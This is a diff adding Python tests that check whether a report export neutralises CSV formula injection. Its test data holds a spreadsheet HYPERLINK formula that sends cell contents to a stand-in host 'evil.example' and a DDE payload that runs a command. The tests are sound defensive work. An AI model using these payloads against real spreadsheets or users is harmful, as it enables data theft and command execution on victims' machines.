@@ -211,3 +211,31 @@ def test_the_pdf_model_table_tolerates_any_detector_info(tenant, info) -> None:
     report = build_period_report(tenant, datetime(2026, 1, 1, tzinfo=timezone.utc), datetime(2026, 2, 1, tzinfo=timezone.utc))
     report["model_versions"] = {"some-detector@1": info}
     assert render_pdf(report, []).startswith(b"%PDF")
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)"]
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(tenant) -> None:
+    import csv
+    import io
+
+    actor = system_actor(tenant, "user:mod")
+    for i, reason in enumerate(FORMULAS):
+        record_review(actor, services.submit_chunks(actor, [jpeg_bytes(seed=200 + i)]), "escalate", reason)
+    client = compliance_api(tenant)
+    response = export(client, format="csv")
+    content = b"".join(response.streaming_content)
+    rows = list(csv.DictReader(io.StringIO(content.decode(), newline="")))
+    assert sorted(row["review_reason"] for row in rows) == sorted("'" + reason for reason in FORMULAS)
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
+    assert verify_bytes(content, response["X-Signature"], [public_key(client)])  # the signed bytes are these
+    report = json.loads(b"".join(export(client, format="json").streaming_content))
+    assert sorted(row["review_reason"] for row in report["items"]) == sorted(FORMULAS)  # JSON keeps them verbatim
+
+
+@pytest.mark.parametrize("cell", ["=1+1", "+1", "-1", "@A1", "\t=1+1", "\r=1+1"])
+def test_csv_safe_quotes_every_formula_start(cell: str) -> None:
+    from provenance.reports import csv_safe
+
+    assert csv_safe(cell) == "'" + cell and csv_safe("a=1") == "a=1" and csv_safe(None) is None
